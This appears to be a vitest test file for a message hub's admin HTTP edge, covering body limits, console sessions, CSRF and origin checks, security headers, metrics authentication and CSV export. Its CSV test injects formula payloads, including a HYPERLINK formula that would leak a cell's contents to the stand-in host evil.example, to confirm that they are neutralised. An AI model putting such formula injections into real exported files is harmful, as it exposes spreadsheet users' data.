// The admin side of the HTTP edge: admin and console callers are known from the headers before a
// body is read, and each route reads only what it needs; the console's session is not the admin
// token, ends at sign-out, and its forms are refused from another origin or without their CSRF
// token; security headers; a malformed cookie is ignored; /metrics needs a token; a dead letter's
// CSV neutralises formula cells written by whoever can publish on the broker.
import amqp from 'amqplib';
import { describe, expect, it } from 'vitest';
import { hashApiKey } from '../../src/http/auth.js';
import { AMQP_URL, eventually, type Agent, type TestNetwork } from '../helpers/network.js';
import { useTestNetwork } from '../helpers/shared-network.js';
import { parseRaw, rawConnection, write } from '../helpers/raw-http.js';
import { consoleClient as openConsoleClient, csrfOf } from '../helpers/console-client.js';

const SCRAPE_TOKEN = 'prometheus-scrape-token';
let n: TestNetwork;
let url: string;
let ingress: string;
let commune: Agent;
let district: Agent;

useTestNetwork({
  configFor: (_id, c) => ({ ...c, http: { ...c.http, trustProxy: true, metricsTokenHash: hashApiKey(SCRAPE_TOKEN) } }),
}, (started, a) => {
  n = started;
  url = n.hubs[1]!.url;
  ingress = `lgsp.${n.hubs[1]!.id}.ingress`;
  ({ commune, district } = a);
});

/** The answer to request headers that announce `length` bytes of body, followed by only a few. */
async function answerToHeaders(path: string, headers: Record<string, string>, length: number, method = 'POST') {
  const c = rawConnection(url);
  const head = `${method} ${path} HTTP/1.1\r\nHost: ${new URL(url).host}\r\nContent-Length: ${length}\r\n` +
    `${Object.entries(headers).map(([k, v]) => `${k}: ${v}\r\n`).join('')}\r\n`;
  await write(c.socket, head + '{"code":"');
  const raw = await c.answered;
  c.socket.destroy();
  const r = parseRaw(raw);
  return { status: r.status, code: r.json?.error?.code as unknown, sdk: r.json as unknown, location: /\r\nlocation: ([^\r]*)/i.exec(raw)?.[1] };
}

describe('callers known before their bodies', () => {
  const json = { 'Content-Type': 'application/json' };
  const tenMiB = 10 * 1024 * 1024;

  it('refuses an admin call without a token, or with an agency key, from its headers', async () => {
    expect(await answerToHeaders('/api/admin/agencies', json, tenMiB)).toMatchObject({ status: 401, code: 'UNAUTHENTICATED' });
    expect(await answerToHeaders('/api/admin/agencies', { ...json, Authorization: `Bearer ${commune.agency.apiKey}` }, tenMiB))
      .toMatchObject({ status: 403, code: 'FORBIDDEN' });
  });

  it('refuses an admin JSON body over the admin limit from its headers, but takes a CRL of that size', async () => {
    const admin = { Authorization: `Bearer ${n.net.adminToken}` };
    expect(await answerToHeaders('/api/admin/agencies', { ...json, ...admin }, 1024 * 1024)).toMatchObject({ status: 413, code: 'PAYLOAD_TOO_LARGE' });
    // A CRL has a limit of its own (http.crlMaxBytes): a 1 MiB one is read, and refused as a CRL.
    const crl = await fetch(`${url}/api/admin/crls`, { method: 'POST', headers: { ...admin, 'content-type': 'application/pkix-crl' }, body: Buffer.alloc(1024 * 1024, 1) });
    expect(crl.status).toBe(400);
    expect(await answerToHeaders('/api/admin/crls', { ...admin, 'Content-Type': 'application/pkix-crl' }, 11 * 1024 * 1024)).toMatchObject({ status: 413, code: 'PAYLOAD_TOO_LARGE' });
  });

  it('refuses an acknowledgement body over its small limit from the headers, not after reading policy.maxBytes of it', async () => {
    const agency = { Authorization: `Bearer ${district.agency.apiKey}` };
    const ack = `/api/v1/edocs/${'0'.repeat(32)}/ack`;
    expect(await answerToHeaders(ack, { ...json, ...agency }, 1024 * 1024)).toMatchObject({ status: 413, code: 'PAYLOAD_TOO_LARGE' });
    expect(await answerToHeaders(ack, { 'Content-Type': 'application/x-www-form-urlencoded', ...agency }, 1024 * 1024))
      .toMatchObject({ status: 413, code: 'PAYLOAD_TOO_LARGE' });
  });

  it('answers a request no route takes from its headers, in the shape of its side of the API, and reads none of its body', async () => {
    // Each body type a route parses somewhere (JSON, XML, a form), to a path or method nobody serves.
    for (const [method, path, type] of [['POST', '/api/v1/nothing-here', 'application/json'], ['POST', '/nothing-here', 'application/xml'],
      ['DELETE', '/api/v1/edocs', 'application/json'], ['POST', '/healthz', 'application/x-www-form-urlencoded']] as const) {
      expect(await answerToHeaders(path, { 'Content-Type': type }, 40 * 1024 * 1024, method), `${method} ${path}`).toMatchObject({ status: 404, code: 'NOT_FOUND' });
    }
    const sdk = await answerToHeaders('/vxp/nothingHere', json, 40 * 1024 * 1024);
    expect(sdk).toMatchObject({ status: 404, sdk: { status: 'FAIL', ErrorDesc: expect.stringMatching(/^NOT_FOUND: /) } });
  });

  it('sends a console post without a session to sign in, from its headers', async () => {
    const answer = await answerToHeaders(`/admin/queues/${ingress}/pause`, { 'Content-Type': 'application/x-www-form-urlencoded', Origin: new URL(url).origin }, 40 * 1024 * 1024);
    expect(answer).toMatchObject({ status: 302, location: '/admin/login' });
  });
});

/** A browser-like console client: cookies kept, forms posted from the hub's own origin unless told. */
const consoleClient = () => openConsoleClient(url);
const paused = async () => ((await n.admin(1, 'GET', '/api/admin/lanes')).json.items as { queue: string; paused: boolean }[]).find((l) => l.queue === ingress)!.paused;

describe('console sessions and forms', () => {
  it('keeps a session id in the cookie, never the admin token', async () => {
    const c = consoleClient();
    const res = await c.post('/admin/login', { token: n.net.adminToken });
    expect(res.status).toBe(302);
    const set = res.headers.getSetCookie().find((l) => l.startsWith('lgsp_session='))!;
    expect(set).toMatch(/HttpOnly/);
    expect(set).toMatch(/SameSite=Strict/);
    expect(set).not.toMatch(/Secure/); // plain http, no proxy saying otherwise
    const id = c.jar.get('lgsp_session')!;
    expect(id).not.toContain(n.net.adminToken);
    expect(id).not.toContain(encodeURIComponent(n.net.adminToken));
    expect((await c.get('/admin')).status).toBe(200);
  });

  it('marks the cookie Secure behind a TLS proxy', async () => {
    const res = await fetch(`${url}/admin/login`, {
      method: 'POST', redirect: 'manual', body: new URLSearchParams({ token: n.net.adminToken }).toString(),
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-proto': 'https', origin: `https://${new URL(url).host}` },
    });
    expect(res.status).toBe(302);
    expect(res.headers.getSetCookie().find((l) => l.startsWith('lgsp_session='))).toMatch(/; Secure/);
  });

  it('refuses a form from another origin, without an origin, or without its CSRF token, and changes nothing', async () => {
    const c = consoleClient();
    await c.post('/admin/login', { token: n.net.adminToken });
    const token = await csrfOf(await c.get(`/admin/queues/${ingress}`));
    expect(token).not.toBe('');
    for (const [form, origin] of [
      [{ _csrf: token }, 'http://evil.example'],
      [{ _csrf: token }, `http://localhost:${new URL(url).port}`], // same port, another host name
      [{ _csrf: token }, null],
      [{}, new URL(url).origin],
      [{ _csrf: 'forged' }, new URL(url).origin],
    ] as const) {
      const res = await c.post(`/admin/queues/${ingress}/pause`, form, origin);
      expect({ status: res.status, code: ((await res.json()) as { error: { code: string } }).error.code }).toEqual({ status: 403, code: 'FORBIDDEN' });
    }
    const missing = await c.post(`/admin/queues/${ingress}/pause`, {});
    expect(((await missing.json()) as { error: { message: string } }).error.message).toMatch(/no valid CSRF token \(_csrf\)/);
    expect(await paused()).toBe(false);
    // The same form from the hub's own page, with its token, is taken.
    expect((await c.post(`/admin/queues/${ingress}/pause`, { _csrf: token })).status).toBe(302);
    expect(await paused()).toBe(true);
    expect((await c.post(`/admin/queues/${ingress}/resume`, { _csrf: token })).status).toBe(302);
    expect(await paused()).toBe(false);
  });

  it('reads a page\'s query as text whatever a browser or a hand-made link repeats in it: a field given twice counts once (its first)', async () => {
    const c = consoleClient();
    await c.post('/admin/login', { token: n.net.adminToken });
    const twice = (field: string, a: string, b: string) => `${field}=${encodeURIComponent(a)}&${field}=${encodeURIComponent(b)}`;
    const answers: Record<string, number> = {};
    for (const path of [
      `/admin/documents?${twice('docId', 'abc', 'def')}`, `/admin/documents?${twice('organ', 'A', 'B')}`,
      `/admin/dead-letters?${twice('reason', 'x', 'y')}`, `/admin/dead-letters.csv?${twice('reason', 'x', 'y')}`,
      `/admin/queues/${ingress}?${twice('docId', 'a', 'b')}&${twice('agency', 'A', 'B')}&${twice('reason', 'x', 'y')}`,
      `/admin/agencies?${twice('q', 'a', 'b')}`, `/admin/stats?${twice('from', '2026-11-01', '2026-11-02')}&${twice('sort', 'sent', 'name')}&${twice('dir', 'desc', 'asc')}`,
      `/admin/stats.csv?${twice('to', '2026-11-02', '2026-11-03')}`, `/admin?${twice('lang', 'en', 'vi')}&${twice('flash', 'a', 'b')}`,
      `/admin/login?${twice('error', '1', '2')}`,
    ]) answers[path] = (await c.get(path)).status;
    expect(Object.entries(answers).filter(([, status]) => status !== 200)).toEqual([]);
    // The first of each counts: the English page, the first docId in the search box.
    expect(await (await c.get(`/admin/documents?${twice('lang', 'en', 'vi')}&${twice('docId', 'abc', 'def')}`)).text()).toMatch(/<html lang="en">[\s\S]*name="docId" value="abc"/);
  });

  it('ends the session at sign-out: the old cookie and token no longer work', async () => {
    const c = consoleClient();
    await c.post('/admin/login', { token: n.net.adminToken });
    const token = await csrfOf(await c.get('/admin'));
    const old = new Map(c.jar);
    expect((await c.post('/admin/logout', { _csrf: token })).status).toBe(302);
    for (const [k, v] of old) c.jar.set(k, v); // an attacker who kept the old cookies
    const page = await c.get('/admin');
    expect({ status: page.status, location: page.headers.get('location') }).toEqual({ status: 302, location: '/admin/login' });
    expect((await c.post(`/admin/queues/${ingress}/pause`, { _csrf: token })).headers.get('location')).toBe('/admin/login');
    expect(await paused()).toBe(false);
  });

  it('sends security headers and a Content-Security-Policy the pages keep to', async () => {
    const c = consoleClient();
    const login = await c.get('/admin/login');
    const csp = login.headers.get('content-security-policy')!;
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("style-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(login.headers.get('x-content-type-options')).toBe('nosniff');
    expect(login.headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(login.headers.get('referrer-policy')).toBe('same-origin'); // no-referrer would make browsers post "Origin: null"
    await c.post('/admin/login', { token: n.net.adminToken });
    for (const path of ['/admin/login', '/admin', `/admin/queues/${ingress}`, '/admin/dead-letters']) {
      const text = await (await c.get(path)).text();
      expect(text, path).not.toMatch(/<script|<style|\sstyle=|\son[a-z]+=/i);
    }
    expect((await c.get('/admin/console.css')).headers.get('content-type')).toContain('text/css');
  });

  it('ignores a malformed percent-encoded cookie', async () => {
    const res = await fetch(`${url}/admin/login`, { headers: { cookie: 'lgsp_lang=%E0%A4%A; lgsp_session=%E0%A4%A' } });
    expect(res.status).toBe(200);
    expect(await res.text()).toContain('<html lang="vi">');
    const page = await fetch(`${url}/admin`, { headers: { cookie: 'lgsp_session=%E0%A4%A' }, redirect: 'manual' });
    expect(page.status).toBe(302);
  });
});

describe('/metrics', () => {
  it('answers only a metrics or admin token', async () => {
    const scrape = (token?: string) => fetch(`${url}/metrics`, token === undefined ? {} : { headers: { authorization: `Bearer ${token}` } });
    const open = await scrape();
    expect(open.status).toBe(401);
    expect(await open.text()).not.toContain('lgsp_certificate_expiry_seconds');
    expect((await scrape(commune.agency.apiKey)).status).toBe(401);
    for (const token of [SCRAPE_TOKEN, n.net.adminToken]) {
      const res = await scrape(token);
      expect(res.status).toBe(200);
      expect(await res.text()).toContain('lgsp_certificate_expiry_seconds');
    }
  });
});

describe('dead-letter CSV', () => {
  it('neutralises a sender that a broker publisher made a formula', async () => {
    const sender = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const conn = await amqp.connect(AMQP_URL);
    const ch = await conn.createConfirmChannel();
    ch.sendToQueue(`lgsp.${n.hubs[1]!.id}.dead`, Buffer.from('<x/>'), {
      headers: { 'x-lgsp-sender': sender, 'x-lgsp-doc-id': 'csv-injection', 'x-lgsp-reason-code': '@SUM(1+1)', 'x-lgsp-reason': '-2+3' },
    });
    await ch.waitForConfirms();
    await conn.close();
    const csv = await eventually(async () => {
      const text = await (await fetch(`${url}/api/admin/dead-letters.csv`, { headers: { authorization: `Bearer ${n.net.adminToken}` } })).text();
      return text.includes('csv-injection') ? text : undefined;
    }, 'the dead letter in the CSV');
    const row = csv.split('\r\n').find((l) => l.includes('csv-injection'))!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(row).toContain(`"'@SUM(1+1)"`);
    expect(row).toContain(`"'-2+3"`);
    expect(row.split(',').every((cell) => !/^"[=+\-@\t\r]/.test(cell))).toBe(true);
    // The console's link serves the same file to a signed-in browser.
    const c = consoleClient();
    expect((await c.get('/admin/dead-letters.csv')).headers.get('location')).toBe('/admin/login');
    await c.post('/admin/login', { token: n.net.adminToken });
    expect(await (await c.get('/admin/dead-letters')).text()).toContain('href="/admin/dead-letters.csv"');
    expect(await (await c.get('/admin/dead-letters.csv')).text()).toContain(row);
  });
});

describe('what a route checks first', () => {
  it('answers NOT_FOUND for an unknown certificate or queue whatever its body or query, SCHEMA_INVALID for a malformed path', async () => {
    const hub = n.hubs.findIndex((h) => h.url === url);
    const unknown = 'cd'.repeat(32);
    for (const action of ['retire', 'revoke']) {
      const r = await n.admin(hub, 'POST', `/api/admin/certs/${unknown}/${action}`, { at: 'not a time', reason: 'x'.repeat(501) });
      expect([r.status, r.json.error.code]).toEqual([404, 'NOT_FOUND']);
      const malformed = await n.admin(hub, 'POST', `/api/admin/certs/not-hex/${action}`, {});
      expect(malformed.json.error.code).toBe('SCHEMA_INVALID');
    }
    const queue = await n.admin(hub, 'GET', '/api/admin/queues/lgsp.elsewhere.ingress/messages?limit=0');
    expect([queue.status, queue.json.error.code]).toEqual([404, 'NOT_FOUND']);
    expect((await n.admin(hub, 'GET', `/api/admin/queues/${ingress}/messages?limit=0`)).json.error.code).toBe('SCHEMA_INVALID');
  });
});
